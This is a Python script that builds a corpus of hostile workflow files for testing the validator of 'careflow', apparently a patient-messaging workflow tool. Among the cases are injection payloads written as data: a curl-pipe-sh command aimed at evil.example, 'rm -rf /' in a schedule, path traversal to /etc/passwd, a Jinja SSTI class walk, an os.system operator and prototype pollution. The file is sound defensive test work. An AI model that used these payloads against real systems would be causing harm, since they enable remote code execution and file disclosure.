"""Write the hostile workflow corpus: mutations of an example workflow that careflow must refuse.

Each case is one file in ``corpus/workflows/`` and one entry of ``corpus/workflows/expected.json``:
the error code validation must answer with and, where the problem sits in a node or an edge, its
id. ``python tests/hostile/make_corpus.py`` rewrites the corpus (and checks every case against the
validator); ``large_cases()`` builds the cases too big to keep in the repository.
"""

from __future__ import annotations

import copy
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus" / "workflows"
BASE_FILE = HERE.parents[1] / "include" / "workflows" / "implant-aftercare.json"

Doc = dict[str, Any]


def base() -> Doc:
    """The example every case mutates (trigger t1 → delay d1 → condition c1 → window w1 → action a1)."""
    return json.loads(BASE_FILE.read_text(encoding="utf-8"))


def dumps(doc: Any) -> bytes:
    return json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")


def node(doc: Doc, node_id: str) -> Doc:
    return next(n for n in doc["nodes"] if n.get("id") == node_id)


def data(doc: Doc, node_id: str) -> Doc:
    return node(doc, node_id)["data"]


def edge(doc: Doc, edge_id: str) -> Doc:
    return next(e for e in doc["edges"] if e.get("id") == edge_id)


def mutate(change: Callable[[Doc], Any]) -> bytes:
    doc = base()
    change(doc)
    return dumps(doc)


def text_replace(old: str, new: str) -> bytes:
    text = BASE_FILE.read_text(encoding="utf-8")
    assert old in text, old
    return text.replace(old, new, 1).encode("utf-8")


def nested_group(depth: int) -> Doc:
    group: Doc = {"all": [{"field": "patient.age", "op": "gte", "value": 20}]}
    for _ in range(depth):
        group = {"any": [group]}
    return group


def _set(target: Doc, **values: Any) -> None:
    target.update(values)


# (file stem, what it tries, the input, expected error code, node id, edge id)
Case = tuple[str, str, bytes, str, str | None, str | None]

CASES: list[Case] = [
    # --- not a workflow document at all ----------------------------------------------------------
    ("empty", "an empty file", b"", "WF_EMPTY", None, None),
    ("whitespace-only", "only whitespace", b" \n\t\r\n ", "WF_EMPTY", None, None),
    ("bom-only", "a UTF-8 BOM and nothing else", b"\xef\xbb\xbf", "WF_EMPTY", None, None),
    ("bom-then-garbage", "a BOM, then not JSON", b"\xef\xbb\xbf{nodes: []}", "WF_NOT_JSON", None, None),
    (
        "invalid-utf8",
        "a byte that is not UTF-8 inside the name",
        text_replace("임플란트", "\x00").replace(b"\x00", b"\xff\xfe"),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "utf16-export",
        "the example saved as UTF-16",
        BASE_FILE.read_text(encoding="utf-8").encode("utf-16"),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "overlong-utf8",
        "an overlong UTF-8 encoding of '/'",
        text_replace("Asia/Seoul", "Asia\x00Seoul").replace(b"\x00", b"\xc0\xaf"),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "lone-surrogate-bytes",
        "CESU-style surrogate bytes",
        text_replace("수술 완료", "\x00").replace(b"\x00", b"\xed\xa0\x80"),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "nul-byte-outside-string",
        "a raw NUL byte between tokens",
        text_replace('"nodes":', '"nodes":\x00'),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "nan-literal",
        "NaN where a number goes",
        text_replace('"amount": 3', '"amount": NaN'),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "infinity-literal",
        "Infinity where a number goes",
        text_replace('"amount": 3', '"amount": Infinity'),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "negative-infinity-literal",
        "-Infinity where a number goes",
        text_replace('"max_concurrency": 5', '"max_concurrency": -Infinity'),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "huge-integer",
        "an integer of 20,000 digits",
        text_replace('"amount": 3', '"amount": ' + "9" * 20_000),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "truncated",
        "the export cut in the middle",
        BASE_FILE.read_bytes()[: len(BASE_FILE.read_bytes()) // 2],
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "trailing-comma",
        "a trailing comma (JavaScript, not JSON)",
        text_replace('"unit": "days"}', '"unit": "days",}'),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "comments",
        "// comments",
        text_replace('"nodes": [', '"nodes": [ // the graph\n'),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "single-quotes",
        "single-quoted strings",
        text_replace('"status": "active"', "'status': 'active'"),
        "WF_NOT_JSON",
        None,
        None,
    ),
    (
        "top-level-array",
        "a list of workflows",
        b"[" + BASE_FILE.read_bytes() + b"]",
        "WF_NOT_OBJECT",
        None,
        None,
    ),
    (
        "top-level-string",
        "a JSON string holding the workflow",
        json.dumps(BASE_FILE.read_text(encoding="utf-8")).encode(),
        "WF_NOT_OBJECT",
        None,
        None,
    ),
    ("top-level-null", "null", b"null", "WF_NOT_OBJECT", None, None),
    (
        "deep-arrays",
        "20,000 nested arrays (parser recursion)",
        b"[" * 20_000 + b"]" * 20_000,
        "WF_TOO_DEEP",
        None,
        None,
    ),
    (
        "deep-objects-in-field",
        "100 nested objects under a UI field",
        mutate(lambda w: w.update(viewport=json.loads('{"a":' * 100 + "1" + "}" * 100))),
        "WF_TOO_DEEP",
        None,
        None,
    ),
    # --- workflow fields ---------------------------------------------------------------------------
    ("id-number", "a number as the workflow id", mutate(lambda w: w.update(id=42)), "WF_BAD_ID", None, None),
    (
        "id-rtl-override",
        "an RTL override hiding the real id",
        mutate(lambda w: w.update(id="implant\u202eeracreta")),
        "WF_BAD_ID",
        None,
        None,
    ),
    (
        "id-path-traversal",
        "a workflow id that is a path (the snapshot file name)",
        mutate(lambda w: w.update(id="../../dags/evil")),
        "WF_BAD_ID",
        None,
        None,
    ),
    ("id-null", "a null id", mutate(lambda w: w.update(id=None)), "WF_MISSING_FIELD", None, None),
    (
        "duplicate-keys",
        "a duplicate key whose last value is invalid (last wins, as in JavaScript)",
        text_replace('"timezone": "Asia/Seoul",', '"timezone": "Asia/Seoul", "timezone": "Mars/Olympus",'),
        "WF_BAD_TIMEZONE",
        None,
        None,
    ),
    (
        "timezone-nul",
        "a NUL byte in the timezone",
        mutate(lambda w: w.update(timezone="Asia/Seoul\u0000")),
        "WF_BAD_TIMEZONE",
        None,
        None,
    ),
    (
        "timezone-path",
        "a file path as the timezone",
        mutate(lambda w: w.update(timezone="../../../../etc/passwd")),
        "WF_BAD_TIMEZONE",
        None,
        None,
    ),
    (
        "status-shouting",
        "status in capitals",
        mutate(lambda w: w.update(status="ACTIVE")),
        "WF_BAD_STATUS",
        None,
        None,
    ),
    (
        "schema-version-future",
        "a schema version from the future",
        mutate(lambda w: w.update(schema_version="9.0")),
        "WF_BAD_SCHEMA_VERSION",
        None,
        None,
    ),
    (
        "settings-as-string",
        "settings as a string",
        mutate(lambda w: w.update(settings="max_concurrency=5")),
        "WF_BAD_SETTING",
        None,
        None,
    ),
    (
        "settings-concurrency-huge",
        "a billion concurrent sends",
        mutate(lambda w: w["settings"].update(max_concurrency=10**9)),
        "WF_BAD_SETTING",
        None,
        None,
    ),
    (
        "settings-retries-negative",
        "negative retries",
        mutate(lambda w: w["settings"].update(retries=-1)),
        "WF_BAD_SETTING",
        None,
        None,
    ),
    (
        "settings-number-as-text",
        "a number written as text",
        mutate(lambda w: w["settings"].update(retries="3")),
        "WF_BAD_SETTING",
        None,
        None,
    ),
    (
        "settings-proto-pollution",
        "__proto__ in settings",
        mutate(lambda w: w["settings"].update(__proto__={"isAdmin": True})),
        "WF_BAD_SETTING",
        None,
        None,
    ),
    (
        "nodes-object",
        "nodes as an object keyed by id",
        mutate(lambda w: w.update(nodes={n["id"]: n for n in w["nodes"]})),
        "WF_BAD_FIELD",
        None,
        None,
    ),
    (
        "edges-string",
        "edges as a string",
        mutate(lambda w: w.update(edges="t1->d1")),
        "WF_BAD_FIELD",
        None,
        None,
    ),
    (
        "no-nodes",
        "an empty graph",
        mutate(lambda w: w.update(nodes=[], edges=[])),
        "TRIGGER_MISSING",
        None,
        None,
    ),
    # --- nodes -----------------------------------------------------------------------------------
    (
        "node-null",
        "null in the node list",
        mutate(lambda w: w["nodes"].append(None)),
        "NODE_MALFORMED",
        None,
        None,
    ),
    (
        "node-id-number",
        "a number as a node id",
        mutate(lambda w: node(w, "d1").update(id=7)),
        "NODE_BAD_ID",
        None,
        None,
    ),
    (
        "node-id-zero-width",
        "a zero-width space inside a node id",
        mutate(lambda w: node(w, "a1").update(id="a\u200b1")),
        "NODE_BAD_ID",
        "a\u200b1",
        None,
    ),
    (
        "node-id-nul",
        "a NUL byte in a node id",
        mutate(lambda w: node(w, "a1").update(id="a1\u0000")),
        "NODE_BAD_ID",
        "a1\u0000",
        None,
    ),
    (
        "node-id-proto",
        "__proto__ as a node id",
        mutate(lambda w: node(w, "w1").update(id="__proto__")),
        "NODE_BAD_ID",
        "__proto__",
        None,
    ),
    (
        "node-id-huge",
        "a 10,000-character node id",
        mutate(lambda w: node(w, "c1").update(id="c" * 10_000)),
        "NODE_BAD_ID",
        "c" * 64,
        None,
    ),
    (
        "node-type-number",
        "a number as a node type",
        mutate(lambda w: node(w, "d1").update(type=3)),
        "NODE_UNKNOWN_TYPE",
        "d1",
        None,
    ),
    (
        "node-type-homoglyph",
        "'action' spelled with a Cyrillic а",
        mutate(lambda w: node(w, "a1").update(type="\u0430ction")),
        "NODE_UNKNOWN_TYPE",
        "a1",
        None,
    ),
    (
        "node-type-constructor",
        "'constructor' as a node type",
        mutate(lambda w: node(w, "d1").update(type="constructor")),
        "NODE_UNKNOWN_TYPE",
        "d1",
        None,
    ),
    (
        "node-data-null",
        "null data",
        mutate(lambda w: node(w, "w1").update(data=None)),
        "NODE_MISSING_DATA",
        "w1",
        None,
    ),
    (
        "node-data-list",
        "data as a list",
        mutate(lambda w: node(w, "d1").update(data=[3, "days"])),
        "NODE_MISSING_DATA",
        "d1",
        None,
    ),
    (
        "node-data-proto",
        "__proto__ inside a node's data",
        mutate(lambda w: data(w, "a1").update(__proto__={"polluted": True})),
        "NODE_UNKNOWN_FIELD",
        "a1",
        None,
    ),
    (
        "node-data-constructor",
        "constructor.prototype inside a node's data",
        mutate(lambda w: data(w, "d1").update(constructor={"prototype": {"x": 1}})),
        "NODE_UNKNOWN_FIELD",
        "d1",
        None,
    ),
    (
        "node-label-huge",
        "a 30,000-character label",
        mutate(lambda w: data(w, "d1").update(label="가" * 30_000)),
        "NODE_BAD_FIELD",
        "d1",
        None,
    ),
    (
        "duplicate-node-ids",
        "two nodes with one id",
        mutate(lambda w: node(w, "w1").update(id="c1")),
        "NODE_DUPLICATE_ID",
        "c1",
        None,
    ),
    (
        "two-triggers",
        "a second trigger",
        mutate(lambda w: w["nodes"].append({**copy.deepcopy(node(w, "t1")), "id": "t2"})),
        "TRIGGER_MULTIPLE",
        "t2",
        None,
    ),
    # --- trigger ---------------------------------------------------------------------------------
    (
        "trigger-event-rtl",
        "an RTL override after the event name",
        mutate(lambda w: data(w, "t1").update(event="appointment_completed\u202e")),
        "TRIGGER_UNKNOWN_EVENT",
        "t1",
        None,
    ),
    (
        "trigger-schedule-reboot",
        "@reboot as a schedule",
        mutate(lambda w: data(w, "t1").update(schedule="@reboot")),
        "TRIGGER_BAD_SCHEDULE",
        "t1",
        None,
    ),
    (
        "trigger-schedule-shell",
        "a shell command as the schedule",
        mutate(lambda w: data(w, "t1").update(schedule="* * * * * rm -rf /")),
        "TRIGGER_BAD_SCHEDULE",
        "t1",
        None,
    ),
    (
        "trigger-filter-mongo",
        "a query operator object as a filter",
        mutate(lambda w: data(w, "t1")["filters"].update(appointment_types={"$ne": None})),
        "TRIGGER_BAD_FILTER",
        "t1",
        None,
    ),
    # --- delay -----------------------------------------------------------------------------------
    (
        "delay-amount-overflow",
        "1e999 (read as infinity)",
        text_replace('"amount": 3', '"amount": 1e999'),
        "DELAY_BAD_DURATION",
        "d1",
        None,
    ),
    (
        "delay-amount-bool",
        "true as an amount",
        mutate(lambda w: data(w, "d1").update(amount=True)),
        "DELAY_BAD_DURATION",
        "d1",
        None,
    ),
    (
        "delay-amount-float",
        "3.5 days",
        mutate(lambda w: data(w, "d1").update(amount=3.5)),
        "DELAY_BAD_DURATION",
        "d1",
        None,
    ),
    (
        "delay-amount-centuries",
        "a million days",
        mutate(lambda w: data(w, "d1").update(amount=1_000_000)),
        "DELAY_BAD_DURATION",
        "d1",
        None,
    ),
    (
        "delay-unit-nul",
        "a NUL byte after the unit",
        mutate(lambda w: data(w, "d1").update(unit="days\u0000")),
        "DELAY_BAD_UNIT",
        "d1",
        None,
    ),
    # --- condition -------------------------------------------------------------------------------
    (
        "condition-nested-20",
        "rule groups nested 20 deep",
        mutate(lambda w: data(w, "c1").update(all=[nested_group(20)])),
        "CONDITION_BAD_GROUP",
        "c1",
        None,
    ),
    (
        "condition-nested-60",
        "rule groups nested 60 deep (past the JSON depth cap)",
        mutate(lambda w: data(w, "c1").update(all=[nested_group(60)])),
        "WF_TOO_DEEP",
        None,
        None,
    ),
    (
        "condition-field-dunder",
        "a rule reading __class__",
        mutate(lambda w: data(w, "c1")["all"][0].update(field="patient.__class__")),
        "CONDITION_UNKNOWN_FIELD",
        "c1",
        None,
    ),
    (
        "condition-op-eval",
        "eval as an operator",
        mutate(lambda w: data(w, "c1")["all"][0].update(op="__import__('os').system")),
        "CONDITION_UNKNOWN_OPERATOR",
        "c1",
        None,
    ),
    (
        "condition-value-huge",
        "a 100,000-character value compared to a boolean",
        mutate(lambda w: data(w, "c1")["all"][0].update(value="x" * 100_000)),
        "CONDITION_BAD_VALUE",
        "c1",
        None,
    ),
    (
        "condition-rule-null",
        "null as a rule",
        mutate(lambda w: data(w, "c1").update(all=[None])),
        "CONDITION_BAD_RULE",
        "c1",
        None,
    ),
    # --- time window -----------------------------------------------------------------------------
    (
        "window-hour-25",
        "25:00",
        mutate(lambda w: data(w, "w1").update(start="25:00")),
        "WINDOW_BAD_TIME",
        "w1",
        None,
    ),
    (
        "window-day-zero-width",
        "'mon' with a zero-width space",
        mutate(lambda w: data(w, "w1").update(days=["mon\u200b", "tue"])),
        "WINDOW_BAD_DAY",
        "w1",
        None,
    ),
    (
        "window-timezone-path",
        "a file path as the window's timezone",
        mutate(lambda w: data(w, "w1").update(timezone="/etc/localtime")),
        "WINDOW_BAD_TIMEZONE",
        "w1",
        None,
    ),
    # --- action ----------------------------------------------------------------------------------
    (
        "action-channel-injection",
        "a shell command in the channel",
        mutate(lambda w: data(w, "a1").update(channel="sms; curl evil.example | sh")),
        "ACTION_UNKNOWN_CHANNEL",
        "a1",
        None,
    ),
    (
        "action-template-null",
        "a null template",
        mutate(lambda w: data(w, "a1").update(template=None)),
        "ACTION_TEMPLATE_MISSING",
        "a1",
        None,
    ),
    (
        "action-template-number",
        "a number as the template",
        mutate(lambda w: data(w, "a1").update(template=12345)),
        "ACTION_TEMPLATE_MISSING",
        "a1",
        None,
    ),
    (
        "action-template-huge",
        "a template over 20,000 characters",
        mutate(lambda w: data(w, "a1").update(template="{{ patient.name }}" * 1_200)),
        "ACTION_TEMPLATE_INVALID",
        "a1",
        None,
    ),
    (
        "action-template-ssti",
        "the classic Jinja class walk",
        mutate(lambda w: data(w, "a1").update(template="{{ ''.__class__.__mro__[1].__subclasses__() }}")),
        "ACTION_TEMPLATE_UNSAFE",
        "a1",
        None,
    ),
    # --- edges -----------------------------------------------------------------------------------
    (
        "edge-null",
        "null in the edge list",
        mutate(lambda w: w["edges"].append(None)),
        "EDGE_MALFORMED",
        None,
        None,
    ),
    (
        "edge-source-number",
        "a number as an edge source",
        mutate(lambda w: edge(w, "e2").update(source=1)),
        "EDGE_BAD_FIELD",
        None,
        "e2",
    ),
    (
        "edge-target-homoglyph",
        "a target id with a Cyrillic letter",
        mutate(lambda w: edge(w, "e4").update(target="\u04301")),
        "EDGE_UNKNOWN_TARGET",
        None,
        "e4",
    ),
    (
        "edge-handle-object",
        "a query operator object as a handle",
        mutate(lambda w: edge(w, "e3").update(sourceHandle={"$ne": None})),
        "EDGE_BAD_FIELD",
        None,
        "e3",
    ),
    (
        "edge-self-loop",
        "an edge from a node to itself",
        mutate(lambda w: w["edges"].append({"id": "e9", "source": "w1", "target": "w1"})),
        "EDGE_SELF_LOOP",
        "w1",
        "e9",
    ),
    (
        "edge-cycle",
        "an edge back to the delay",
        mutate(lambda w: w["edges"].append({"id": "e9", "source": "a1", "target": "d1"})),
        "GRAPH_CYCLE",
        "a1",
        "e9",
    ),
    (
        "edge-into-trigger",
        "an edge into the trigger",
        mutate(lambda w: w["edges"].append({"id": "e9", "source": "a1", "target": "t1"})),
        "TRIGGER_HAS_INCOMING",
        "t1",
        "e9",
    ),
    (
        "edge-duplicate-ids",
        "two edges with one id",
        mutate(lambda w: edge(w, "e4").update(id="e1")),
        "EDGE_DUPLICATE_ID",
        None,
        "e1",
    ),
]


def large_cases() -> list[Case]:
    """Cases too big to keep in the repository (built when the tests run)."""
    doc = base()
    many_edges = copy.deepcopy(doc)
    many_edges["edges"] = [{"id": f"e{i}", "source": "t1", "target": "d1"} for i in range(10_000)]
    many_nodes = copy.deepcopy(doc)
    many_nodes["nodes"] += [
        {"id": f"d{i}", "type": "delay", "data": {"amount": 1, "unit": "days"}} for i in range(2, 5_002)
    ]
    huge = b'{"id": "huge", "name": "' + b"x" * (6 * 1024 * 1024) + b'"}'
    return [
        ("edges-10000", "10,000 edges", dumps(many_edges), "WF_TOO_LARGE", None, None),
        ("nodes-5000", "5,000 nodes", dumps(many_nodes), "WF_TOO_LARGE", None, None),
        ("bytes-6mb", "a 6 MB name", huge, "WF_TOO_LARGE", None, None),
    ]


def write_corpus(target: Path = CORPUS) -> dict[str, dict[str, Any]]:
    """Write every case and the expectations file; returns the expectations."""
    target.mkdir(parents=True, exist_ok=True)
    for old in target.glob("*.json"):
        old.unlink()
    expected: dict[str, dict[str, Any]] = {}
    for stem, what, raw, code, node_id, edge_id in CASES:
        name = f"{stem}.json"
        assert name not in expected, f"two cases named {stem}"
        (target / name).write_bytes(raw)
        expected[name] = {"tries": what, "code": code, "node_id": node_id, "edge_id": edge_id}
    (target / "expected.json").write_text(
        json.dumps(expected, ensure_ascii=True, indent=1) + "\n", encoding="utf-8"
    )
    return expected


def check(cases: list[Case]) -> list[str]:
    """The cases the validator does not refuse as expected (for the author of a new case)."""
    from careflow.workflow.validation import validate_workflow

    wrong = []
    for stem, _, raw, code, node_id, edge_id in cases:
        report = validate_workflow(raw, stem)
        hits = [d for d in report.errors if d.code == code]
        if report.ok or not hits or not any(d.node_id == node_id and d.edge_id == edge_id for d in hits):
            found = [(d.code, d.node_id and d.node_id[:20], d.edge_id) for d in report.errors[:3]]
            wrong.append(f"{stem}: expected {code} {node_id and node_id[:20]} {edge_id}, got {found}")
    return wrong


if __name__ == "__main__":
    problems = check(CASES + large_cases())
    for line in problems:
        print(line)
    if problems:
        sys.exit(1)
    print(f"{len(write_corpus())} workflows written to {CORPUS}")
